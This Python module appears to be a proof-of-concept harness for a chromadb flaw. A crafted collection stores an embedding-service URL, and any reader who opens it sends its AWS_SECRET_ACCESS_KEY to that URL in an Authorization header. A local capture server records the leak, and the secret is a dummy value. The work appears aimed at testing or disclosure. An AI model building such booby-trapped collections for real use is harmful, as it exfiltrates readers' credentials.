"""make-leak and use-leak: a collection whose embedding function is a service, and a reader of it."""

from __future__ import annotations

import json
import os
import threading
from argparse import Namespace
from http.server import BaseHTTPRequestHandler, HTTPServer

from . import compat

SECRET = "AWS_SECRET_ACCESS_KEY"
VALUE = "what a reader must not tell"


def make_leak(arguments: Namespace) -> int:
    """Three records; the embedding function is at the address `--url`."""
    from chromadb.utils.embedding_functions import HuggingFaceEmbeddingServer

    os.environ[SECRET] = VALUE
    function = HuggingFaceEmbeddingServer(url=arguments.url, api_key_env_var=SECRET)
    with compat.session(arguments.out) as client:
        collection = client.create_collection("words", embedding_function=function)
        collection.add(ids=["a", "b", "c"], embeddings=[[1.0, 0.0], [0.0, 1.0], [1.0, 1.0]])
    print(json.dumps({"chromadb": compat.VERSION_TEXT}))
    return 0


def use_leak(arguments: Namespace) -> int:
    """Asks with a text, as readers do; tells which secrets came to the service at `--url`."""
    from chromadb.utils.embedding_functions import ONNXMiniLM_L6_V2

    # Its model is not installed. With the model, it sends no request.
    ONNXMiniLM_L6_V2.__call__ = lambda self, input: [[1.0, 0.0] for _ in input]
    os.environ[SECRET] = VALUE
    told: list[str] = []

    class Service(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            told.append(self.headers.get("Authorization", ""))
            body = b"[[1.0, 0.0]]"
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            pass

    host, port = arguments.url.removeprefix("http://").split(":")
    server = HTTPServer((host, int(port)), Service)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    with compat.session(arguments.dir) as client:
        collection = client.get_collection("words")
        found = collection.query(query_texts=["a"], n_results=1)["ids"]
    server.shutdown()
    server.server_close()
    print(json.dumps({"found": found, "told": told}))
    return 0
